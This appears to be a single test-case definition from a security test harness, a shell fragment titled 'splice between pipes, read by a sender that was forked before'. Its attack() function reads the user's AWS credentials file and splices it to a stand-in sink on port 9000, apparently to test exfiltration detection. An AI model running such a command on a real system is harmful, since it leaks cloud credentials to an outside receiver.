# SPDX-License-Identifier: Apache-2.0
TITLE="splice between pipes, read by a sender that was forked before"
ROW="I03"
attack() { "$PROVOKE/pipes" splice "$HOME/.aws/credentials" "$SINK4" 9000; }
